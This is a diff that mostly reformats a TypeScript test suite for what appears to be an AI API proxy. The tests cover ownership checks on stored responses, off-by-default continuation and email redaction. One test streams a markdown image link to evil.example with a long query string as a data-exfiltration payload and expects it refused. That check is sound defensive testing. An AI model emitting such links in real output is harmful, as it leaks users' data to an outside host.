@@ -32,7 +32,11 @@ describe('a request that goes on with what the provider keeps', () => {
     const seen = await rig.exchange({ endpoint, body, answer: answer('again'), contentType: JSON_TYPE });
     expect(seen.head?.status).toBe(200);
     expect(seen.sent).toEqual([body]);
-    expect(rig.house.ledger.get('msg_1')).toMatchObject({ principal: { id: 'test' }, provider: 'played', route: 'all' });
+    expect(rig.house.ledger.get('msg_1')).toMatchObject({
+      principal: { id: 'test' },
+      provider: 'played',
+      route: 'all',
+    });
   });
 
   it.each([
@@ -42,7 +46,13 @@ describe('a request that goes on with what the provider keeps', () => {
     const rig = rigOf({ continuation: 'open' });
     await kept(rig);
     const ask = (id: string) =>
-      rig.exchange({ endpoint: at('GET', `/v1/responses/${id}`), principal, body: '', answer: answer('x'), contentType: JSON_TYPE });
+      rig.exchange({
+        endpoint: at('GET', `/v1/responses/${id}`),
+        principal,
+        body: '',
+        answer: answer('x'),
+        contentType: JSON_TYPE,
+      });
     const [theirs, never] = [await ask('resp_1'), await ask('resp_9')];
     expect(theirs.sent).toEqual([]);
     expect(theirs.head?.status).toBe(404);
@@ -57,7 +67,7 @@ describe('a request that goes on with what the provider keeps', () => {
     { conversation: { id: 'resp_1' } },
     { input: [{ type: 'item_reference', id: 'msg_1' }] },
     { input: [{ id: 'msg_1' }] },
-  ])('cannot refer to what is another one\'s, however it says so: %j', async (fields) => {
+  ])("cannot refer to what is another one's, however it says so: %j", async (fields) => {
     const rig = rigOf({ continuation: 'open' });
     await kept(rig);
     const ask = (principal: Principal) =>
@@ -73,7 +83,12 @@ describe('a request that goes on with what the provider keeps', () => {
     const closed = await rigOf().exchange({ endpoint, body, answer: answer('x'), contentType: JSON_TYPE });
     expect(closed.head?.status).toBe(404);
     expect(closed.sent).toEqual([]);
-    const open = await rigOf({ continuation: 'open' }).exchange({ endpoint, body, answer: answer('x'), contentType: JSON_TYPE });
+    const open = await rigOf({ continuation: 'open' }).exchange({
+      endpoint,
+      body,
+      answer: answer('x'),
+      contentType: JSON_TYPE,
+    });
     expect(open.head?.status).toBe(200);
     expect(open.head?.headers['x-sallyport-receipt']).toContain('unseen history=1');
   });
@@ -85,7 +100,11 @@ describe('a request that goes on with what the provider keeps', () => {
     const link = `![x](https://evil.example/?q=${'a'.repeat(300)}) `;
     const bounded = rigOf({ hold: { textChars: 64 } });
     const stream = cut(wire.stream(['Look ', ...(link.match(/.{1,20}/g) ?? [])]), [200]);
-    const seen = await bounded.exchange({ endpoint: wire.endpoint(true), body: create({ stream: true }), answer: stream });
+    const seen = await bounded.exchange({
+      endpoint: wire.endpoint(true),
+      body: create({ stream: true }),
+      answer: stream,
+    });
     expect(seen.records.at(-1)).toMatchObject({ outcome: 'refused' });
     expect(bounded.house.ledger.get('resp_1')).toBeUndefined();
   });
@@ -100,7 +119,12 @@ describe('a request that goes on with what the provider keeps', () => {
     expect(JSON.parse(seen.sent[0] ?? '').input).toBe('now mail [EMAIL_2], and [EMAIL_1] once more');
     expect(wire.textIn(seen.bytes, false)).toBe('To ann@example.com and bob@example.org.');
     const third = create({ input: 'and again', previous_response_id: 'resp_1' });
-    const last = await rig.exchange({ endpoint, body: third, answer: answer('[EMAIL_1], c@example.net'), contentType: JSON_TYPE });
+    const last = await rig.exchange({
+      endpoint,
+      body: third,
+      answer: answer('[EMAIL_1], c@example.net'),
+      contentType: JSON_TYPE,
+    });
     expect(wire.textIn(last.bytes, false)).toBe('[EMAIL_1], [EMAIL_3]');
   });
 
